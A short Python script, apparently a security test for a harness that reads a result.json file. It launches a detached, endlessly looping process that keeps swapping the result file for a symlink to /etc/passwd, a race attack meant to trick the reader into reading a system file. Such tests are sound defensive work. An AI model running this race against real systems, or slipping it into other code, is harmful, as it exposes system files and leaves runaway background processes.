"""Swaps a result for a link while it is read."""

import os
import subprocess
import sys
import time

out = os.environ["MOVE37_OUT"]
swap = f"""
import os
while True:
    open({out!r} + '/new', 'w').write('x'); os.replace({out!r} + '/new', {out!r} + '/result.json')
    os.symlink('/etc/passwd', {out!r} + '/link'); os.replace({out!r} + '/link', {out!r} + '/result.json')
"""
subprocess.Popen([sys.executable, "-S", "-c", swap], start_new_session=True)
time.sleep(0.3)
